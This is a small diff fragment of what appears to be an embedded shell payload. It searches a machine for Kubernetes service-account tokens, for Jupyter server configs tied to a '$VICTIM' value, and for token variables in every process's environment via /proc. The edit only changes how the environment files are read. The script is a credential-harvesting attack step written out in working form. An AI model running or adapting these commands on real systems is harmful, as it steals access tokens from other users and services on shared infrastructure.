@@ -86,7 +86,7 @@ find / -xdev -name token -path '*serviceaccount*' 2>/dev/null
 echo OTHERS
 grep -rlsF "$VICTIM" / --include=jupyter_server_config.json 2>/dev/null
 for link in /proc/[0-9]*; do cat $link/root/etc/lab/jupyter_server_config.json 2>/dev/null; done
-for link in /proc/[0-9]*; do tr '\\0' '\\n' < $link/environ 2>/dev/null | grep -i token; done
+for link in /proc/[0-9]*; do cat $link/environ 2>/dev/null | tr '\\0' '\\n' | grep -i token; done
 echo END
 sleep 600
 """
